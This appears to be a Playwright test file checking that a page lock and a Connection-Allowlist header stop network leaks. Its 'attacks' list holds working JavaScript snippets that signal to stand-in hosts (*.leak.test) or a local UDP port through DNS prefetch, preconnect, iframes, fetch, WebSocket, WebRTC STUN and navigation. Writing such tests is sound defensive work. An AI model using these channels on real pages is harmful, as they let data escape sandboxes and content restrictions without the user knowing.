import { createSocket, type Socket } from "node:dgram"
import type { AddressInfo } from "node:net"
import { type BrowserContext, chromium, expect, test, type TestInfo } from "@playwright/test"

import { inEffect } from "./corpus/attack"
import { benign, runLocked } from "./harness/drive"
import { namesAskedFor, netLogArguments } from "./harness/net-log"
import { Harness } from "./harness/server"

/** What can put a name or a packet on the wire without a request: each asks for `<its name>.leak.test`, or sends to UDP. */
const attacks = [
  ...["dns-prefetch", "preconnect", "prefetch"].map((rel) => inEffect(rel, `const l = document.createElement("link"); l.rel = "${rel}"; l.href = "http://${rel}.leak.test/"; document.head.append(l)`)),
  inEffect("frame", 'const f = document.createElement("iframe"); f.src = "http://frame.leak.test/"; document.body.append(f)'),
  inEffect("fetch", 'fetch("http://fetch.leak.test/", { mode: "no-cors" })'),
  inEffect("socket", 'new WebSocket("ws://socket.leak.test/")'),
  inEffect("stun", 'const p = new RTCPeerConnection({ iceServers: [{ urls: "stun:stun.leak.test" }] }); p.createDataChannel("x"); p.createOffer().then((o) => p.setLocalDescription(o))'),
  inEffect("packet", 'const p = new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:UDP" }] }); p.createDataChannel("x"); p.createOffer().then((o) => p.setLocalDescription(o))'),
  inEffect("navigation", 'location.href = "http://navigation.leak.test/"'),
]
const named = attacks.map(({ name }) => `${name}.leak.test`).filter((name) => !name.startsWith("packet")).sort()

let harness: Harness
let udp: Socket
let packets: number
test.beforeEach(async () => {
  harness = await new Harness().start()
  udp = createSocket("udp4")
  packets = 0
  udp.on("message", () => packets++)
  await new Promise<void>((resolve) => udp.bind(0, "127.0.0.1", resolve))
})
test.afterEach(() => {
  harness.stop()
  udp.close()
})

const sourceOf = ({ source }: { source: string }) => source.replaceAll("UDP", String((udp.address() as AddressInfo).port))

type Launch = { executablePath?: string; args?: string[] }

/** Runs `work` in a browser with a profile of its own, which foretells names as a user's does; returns the names it asked for. */
async function watched(info: TestInfo, launch: Launch, work: (context: BrowserContext) => Promise<void>): Promise<string[]> {
  const [file, quiet] = [info.outputPath("net.json"), "--disable-background-networking"]
  const args = [...(launch.args ?? []).filter((arg) => arg !== quiet), ...netLogArguments(file)]
  const context = await chromium.launchPersistentContext(info.outputPath("profile"), { ...launch, args, ignoreDefaultArgs: [quiet] })
  await work(context)
  await context.close()
  return namesAskedFor(file, "leak.test")
}

test("names and packets leave a page without a lock", async ({ launchOptions }, info) => {
  const asked = await watched(info, launchOptions, async (context) => {
    for (const attack of attacks) {
      const page = await context.newPage()
      await page.goto(`${harness.appOrigin}/open.html`)
      await page.evaluate((source) => void setTimeout(() => void window.runOpen(source), 0), sourceOf(attack))
    }
    await expect.poll(() => packets).toBeGreaterThan(0)
    await context.pages()[0]?.waitForTimeout(3_000) // the names follow
  })

  expect(asked).toEqual(named)
})

for (const [title, withoutAllowlist, left] of [
  ["no name and no packet leaves the frame, without the validator", false, []],
  ["without Connection-Allowlist hints and navigations leave a name", true, ["dns-prefetch", "frame", "navigation", "preconnect"]],
] as const) {
  test(title, async ({ launchOptions }, info) => {
    harness.withoutAllowlist = withoutAllowlist
    const asked = await watched(info, launchOptions, async (context) => {
      const page = await context.newPage()
      await page.goto(harness.appOrigin)
      for (const attack of attacks) {
        await runLocked(page, sourceOf(attack), { isUnchecked: true })
        await page.waitForTimeout(500) // what it sends has been begun
      }
      expect((await runLocked(page, benign)).state).toBe("settled")
    })

    expect(left.map((name) => `${name}.leak.test`)).toEqual(expect.arrayContaining(asked))
    expect(packets).toBe(0)
  })
}
